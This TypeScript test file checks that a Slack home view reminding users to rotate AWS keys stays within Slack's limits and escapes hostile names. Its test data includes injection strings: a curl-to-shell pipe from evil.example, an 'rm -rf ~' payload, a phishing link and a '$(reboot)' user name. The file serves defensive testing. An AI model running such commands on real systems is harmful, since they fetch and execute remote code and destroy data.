import assert from 'node:assert/strict';
import fc from 'fast-check';
import { checkHome } from '../../emulation/slack/block-kit';
import { MOST_KEYS } from '../../rules/home/compose-home';
import {
  homeViewSchema,
  keyStates,
  type HomeKey,
  type HomeView,
} from '../../rules/notices/home-view';
import { rotationTools } from '../../rules/tags';
import { shownOf } from '../slack-message';
import { asText } from './as-text';
import { account, anna, key, newer, plannedAt, stopsOn, timeZone, toOwner } from './example-people';
import { examplesOfHomes } from './examples-of-homes';
import { renderHomeView } from './home-view';

const attacks = [
  '<!channel>',
  '<@U0SOMEBODY>',
  '<https://evil.example|Rotate here>',
  '```; curl evil.example | sh #',
  "'; rm -rf ~ #",
  '*_~`&<>',
  '&'.repeat(5000),
  '"'.repeat(5000),
  '`'.repeat(5000),
  "'".repeat(5000),
  '😀\u202E\u0000'.repeat(3000),
];

function homeOf(...keys: readonly HomeKey[]): HomeView {
  const base = { kind: 'home-view', id: 'home/x', plannedAt, to: anna.slackId } as const;
  return { ...base, keys: [...keys], readAt: plannedAt, leftOut: 0, timeZone };
}

function aKey(more: Partial<HomeKey> = {}): HomeKey {
  const of = { account, userName: anna.userName, type: anna.type, key };
  return { ...of, status: 'Active', state: 'rotate-soon', stopsOn, ...more };
}

/** Slack's limits, from its reference, checked without our own constants. */
function assertWithinLimits(view: HomeView): void {
  const { blocks } = renderHomeView(view, toOwner);
  assert.ok(blocks.length >= 1 && blocks.length <= 100, `${blocks.length} blocks`);
  for (const block of blocks) {
    const most = { header: 150, section: 'fields' in block ? 2000 : 3000, context: 3000 };
    const { texts } = shownOf(block);
    assert.ok(texts.length >= 1 && texts.length <= 10);
    assert.ok(block.type === 'header' || block.type === 'section' || block.type === 'context');
    for (const { text } of texts)
      assert.ok(text.length >= 1 && text.length <= most[block.type], JSON.stringify(block));
  }
  assert.ok(Buffer.byteLength(JSON.stringify(blocks)) < 250_000);
  // The emulated Slack refuses what is no view.
  checkHome({ type: 'home', blocks });
}

const worst = (state: HomeKey['state'], text: string): HomeKey => ({
  ...aKey({ state, newer: { ...key, id: `${text}NEWR` }, deadKeyId: `${text}DEAD` }),
  account: { ...account, name: text },
  userName: text,
  key: { ...key, id: `${text}WXYZ`, lastUsed: { at: plannedAt, service: text, region: text } },
  exemptUntil: stopsOn,
  isDryRun: true,
});

describe('a home full of keys', () => {
  for (const state of keyStates)
    it(`that are ${state} stays within the limits of a view, whatever its names are`, () => {
      for (const text of ['x', '&'.repeat(5000), "'".repeat(5000), '😀'.repeat(3000)]) {
        const keys = Array.from({ length: MOST_KEYS }, () => worst(state, text));
        assertWithinLimits({ ...homeOf(...keys), leftOut: 4980, usersNotSeen: 5000 });
      }
    });
});

describe('a home with attacking names', () => {
  const ours = /^(<#C0INFRATEAM>|<https:\/\/)/;
  it('has no mention, link or mark but our own, and no command of theirs', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...keyStates),
        fc.oneof(
          fc.constantFrom(...attacks),
          fc.string({ unit: 'binary', minLength: 1, maxLength: 200 }),
        ),
        fc.constantFrom(...rotationTools),
        (state, text, rotateWith) => {
          const found = { ...worst(state, text), rotateWith };
          const view = homeViewSchema.parse({ ...homeOf(found), to: text });
          for (const block of renderHomeView(view, toOwner).blocks)
            for (const shown of shownOf(block).texts) {
              for (const [mark = ''] of shown.text.matchAll(/<[^>]*>?/g))
                assert.match(mark, ours, shown.text);
              for (const sign of ['\u0000', '\u202E']) assert.ok(!shown.text.includes(sign));
              // Every code of ours is closed.
              assert.equal((shown.text.match(/`/g) ?? []).length % 2, 0, shown.text);
            }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('quotes a user’s name where the shell would read more into it', () => {
    const text = textOf(homeOf(aKey({ state: 'machine-old', userName: '$(reboot)' })));
    assert.match(text, /--user-name '\$\(reboot\)'/);
  });
});

function textOf(view: HomeView, rotation = toOwner.rotation): string {
  return asText({ text: '', ...renderHomeView(view, { ...toOwner, rotation }) });
}

describe('what a home says to do', () => {
  const commands: readonly [HomeKey['rotateWith'], RegExp][] = [
    [undefined, /^ {4}keyturn rotate production$/m],
    ['aws-vault', /^ {4}aws-vault rotate production$/m],
    ['aws-cli', /aws iam create-access-key/],
  ];
  for (const [rotateWith, command] of commands)
    it(`is the command of the person’s own tool: ${rotateWith ?? 'the company’s'}`, () =>
      assert.match(textOf(homeOf(aKey({ rotateWith }))), command));

  it('is the company’s own command, with its page', () => {
    const custom = {
      command: 'acme-keys turn {user} {profile}',
      link: 'https://keys.acme.example',
    };
    const rotation = { tool: 'custom', custom, profiles: { [account.id]: 'prod' } } as const;
    assert.match(textOf(homeOf(aKey()), rotation), /^ {4}acme-keys turn anna prod$/m);
  });

  it('has a key’s whole id in no other place than a command that needs it', () => {
    for (const { view, reader } of examplesOfHomes) {
      const { blocks } = renderHomeView(view, reader);
      const texts = blocks.flatMap((block) => shownOf(block).texts.map(({ text }) => text));
      const outside = texts.join('\n').replace(/```.*?```/g, '');
      assert.doesNotMatch(outside, /AKIA/);
    }
  });

  it('never tells to delete the last key that works', () => {
    const since = [
      aKey({ state: 'other-disabled' }),
      aKey({ key: newer, state: 'disabled-since' }),
    ];
    for (const rotateWith of rotationTools)
      assert.doesNotMatch(
        textOf(homeOf(...since.map((each) => ({ ...each, rotateWith })))),
        /delete-access-key|--finish|Delete the/,
      );
  });
});
